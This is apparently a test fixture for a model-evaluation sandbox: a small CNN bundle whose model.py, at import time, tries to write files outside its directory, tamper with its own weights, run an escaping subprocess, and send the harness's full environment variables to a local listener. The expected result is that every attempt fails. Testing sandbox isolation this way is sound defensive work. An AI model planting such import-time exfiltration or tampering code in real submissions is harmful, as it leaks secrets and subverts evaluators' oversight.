"""Test bundle `hostile_import`: the clean CNN, but model.py tries at import what a hostile submitter
would: write a file outside the bundle, append to its own weights, read the harness's environment,
send it to a listener on 127.0.0.1, and run a subprocess that writes outside. The test fills in
OUTSIDE_DIR and LISTENER_PORT. Expected: every attempt fails inside the sandbox (nothing outside
the work directory changes, the listener receives nothing) and the bundle scores exactly as `clean`.
"""
import json
import os
import socket
import subprocess

import torch
from torch import nn

from harness.data.models import SmallCNN

OUTSIDE = "OUTSIDE_DIR"
PORT = int("LISTENER_PORT")
ATTEMPTS: dict = {}


def _attempt(name, fn):
    try:
        fn()
        ATTEMPTS[name] = "succeeded"
    except Exception as exc:  # noqa: BLE001
        ATTEMPTS[name] = type(exc).__name__


def _write_outside():
    with open(os.path.join(OUTSIDE, "written-at-import.txt"), "w") as fh:
        fh.write("escaped the sandbox")


def _append_to_own_weights():
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "weights.pt"), "ab") as fh:
        fh.write(b"tampered")


def _send_environment():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(json.dumps(dict(os.environ)).encode())


def _subprocess_writes_outside():
    subprocess.run(["touch", os.path.join(OUTSIDE, "written-by-subprocess.txt")], check=True, timeout=10)


_attempt("write_outside", _write_outside)
_attempt("append_to_own_weights", _append_to_own_weights)
_attempt("network", _send_environment)
_attempt("subprocess", _subprocess_writes_outside)


class Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.net = SmallCNN(1, 10, width=8, hidden=32)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)


def create() -> nn.Module:
    return Net()
